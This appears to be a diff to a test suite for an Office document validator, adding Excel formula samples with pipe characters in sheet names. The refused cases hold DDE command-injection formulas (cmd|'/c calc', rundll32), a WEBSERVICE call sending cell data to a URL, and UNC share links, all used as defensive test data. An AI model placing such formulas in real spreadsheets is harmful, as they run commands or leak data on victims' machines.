@@ -104,6 +104,7 @@ TAKEN = {
     "Word with a picture once kept on a share": word(r'<w:docPr descr="\\\\host\\a.png"/>'),
     "Excel with formulas": sheet('SUM(A1:A9)&amp;"a|b!"'),
     "Excel with a sum over another sheet": sheet("SUM('Tháng 1'!A1:A9)/'Tháng 2'!A1"),
+    "Excel with a sheet whose name holds a stroke": sheet("SUM('Thu|chi'!A1:A9,'Quý 1|2'!$B:$B)/'Thu|chi'!$A$1"),
     "Excel with a list to choose from": workbook(
         "<dataValidation><formula1>'Danh mục'!$A$1:$A$9</formula1></dataValidation>"
     ),
@@ -200,6 +201,9 @@ REFUSED = {
     "Word with an old picture on a share": (word(r'<w:pict src="\\host\a.png"/>'), _SHARE),
     "Word with an old picture in signs of XML": (word('<w:pict src="&#102;ile://host/a.png"/>'), _SHARE),
     "Excel with DDE": (sheet("cmd|'/c calc'!A1"), _RUNS),
+    "Excel with DDE of a plain topic": (sheet("SUM(1)+rundll32|'a'!A1"), _RUNS),
+    "Excel with DDE beside a sheet's name with a stroke": (sheet("'Thu|chi'!A1+cmd|'/c calc'!A1"), _RUNS),
+    "Excel with DDE behind a sheet's name": (sheet("SUM('Thu|chi'!cmd|'a'!A1)"), _RUNS),
     "Excel with DDE in signs of XML": (sheet("cmd&#124;'/c calc'!A1"), _RUNS),
     "Excel with a call of the web": (sheet('WEBSERVICE("https://x.vn/"&amp;A1)'), _RUNS),
     "Excel with a link to a share": (sheet(r'HYPERLINK("\\host\a","x")'), _SHARE),
